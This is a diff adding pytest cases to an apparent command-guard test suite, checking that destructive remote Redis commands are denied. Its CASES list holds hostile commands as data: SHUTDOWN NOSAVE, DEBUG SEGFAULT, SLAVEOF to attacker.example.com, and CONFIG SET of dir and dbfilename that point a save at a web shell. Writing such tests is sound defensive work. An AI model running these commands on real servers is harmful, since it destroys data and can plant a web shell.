@@ -227,6 +227,45 @@ class TestWhatHoldsTheContainers:
         _allowed(command)
 
 
+class TestRedisLosesDataWithoutDeleting:
+    """Class: a Redis command that loses the server's data by another way than deleting keys. db.destructive-sql read
+    FLUSHALL/FLUSHDB and DEL of a pattern; SHUTDOWN NOSAVE and DEBUG SEGFAULT (stop without saving), REPLICAOF/SLAVEOF
+    HOST PORT (the server discards its dataset to copy another's) and CONFIG SET dir/dbfilename (its next save writes
+    over another file) were allowed against a remote server. Fixed: db._redis_loses (facts from the Redis command
+    reference), read through the same typed text, Lua calls and files as the flushes: denied remote, asked local."""
+
+    CASES: ClassVar[list[str]] = [
+        "redis-cli -h prod.example.com SHUTDOWN NOSAVE",
+        "redis-cli -h cache.internal shutdown nosave",
+        "redis-cli -h prod.example.com DEBUG SEGFAULT",
+        "redis-cli -h prod.example.com REPLICAOF 203.0.113.9 6379",
+        "redis-cli -h prod.example.com SLAVEOF attacker.example.com 6379",
+        "redis-cli -h prod.example.com CONFIG SET dir /var/www/html",
+        "redis-cli -h prod.example.com CONFIG SET dbfilename shell.php",
+        "redis-cli -u redis://prod.example.com:6379 EVAL \"return redis.call('SHUTDOWN','NOSAVE')\" 0",
+    ]
+
+    ORDINARY: ClassVar[list[str]] = [
+        "redis-cli -h prod.example.com REPLICAOF NO ONE",
+        "redis-cli -h prod.example.com CONFIG GET dir",
+        "redis-cli -h prod.example.com CONFIG SET maxmemory 2gb",
+        "redis-cli -h prod.example.com INFO replication",
+        "redis-cli -h prod.example.com DEBUG OBJECT key",
+        "redis-cli SHUTDOWN",
+    ]
+
+    @pytest.mark.parametrize("command", CASES)
+    def test_denied(self, command: str) -> None:
+        assert _verdict(command) == "deny", command
+
+    def test_local_server_asked(self) -> None:
+        assert _verdict("redis-cli SHUTDOWN NOSAVE") == "ask"
+
+    @pytest.mark.parametrize("command", ORDINARY)
+    def test_ordinary(self, command: str) -> None:
+        _allowed(command)
+
+
 class TestGitDestroysThroughAnotherDoor:
     """Class: git's destroying operations reached through a door the git rules did not read -- the ref deletes
     `update-ref -d` is refused for, fed to `update-ref --stdin` (a literal `delete REF` line, or for-each-ref's
